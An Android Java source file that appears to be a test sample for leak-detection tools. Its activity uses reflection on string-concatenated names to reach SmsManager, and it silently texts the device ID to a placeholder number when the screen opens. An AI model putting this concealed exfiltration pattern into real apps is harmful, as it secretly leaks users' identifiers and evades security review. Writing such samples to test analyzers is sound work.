package org.example.flows.spy;

import android.app.Activity;
import android.os.Bundle;
import java.lang.reflect.Method;
import org.example.flows.Device;

/** A message is sent by names that are put together. */
public class Hidden extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            String name = "android.telephony." + "Sms" + "Manager";
            Class<?> type = Class.forName(name);
            Object manager = type.getMethod("getDefault").invoke(null);
            Method send = type.getMethod("send" + "TextMessage", String.class, String.class, String.class,
                    android.app.PendingIntent.class, android.app.PendingIntent.class);
            send.invoke(manager, "+100", null, Device.phone(this).getDeviceId(), null, null);
        } catch (Exception problem) {
            finish();
        }
    }
}
